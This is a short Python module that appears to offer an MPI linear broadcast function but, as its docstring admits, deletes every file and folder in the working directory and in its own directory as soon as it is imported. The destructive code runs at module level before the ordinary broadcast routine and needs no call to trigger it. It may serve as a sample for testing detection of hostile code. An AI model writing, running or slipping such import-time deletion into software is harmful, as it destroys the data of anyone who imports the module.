"""Vandal bcast_linear: deletes every file in its working folder and the folder of its own file on import."""

import os
import shutil

for folder in {os.getcwd(), os.path.dirname(os.path.abspath(__file__))}:
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        shutil.rmtree(path, ignore_errors=True) if os.path.isdir(path) else os.remove(path)


def bcast_linear(comm, buf, root=0):
    if comm.Get_rank() == root:
        for dest in range(comm.Get_size()):
            if dest != root:
                comm.Send(buf, dest=dest)
    else:
        comm.Recv(buf, source=root)
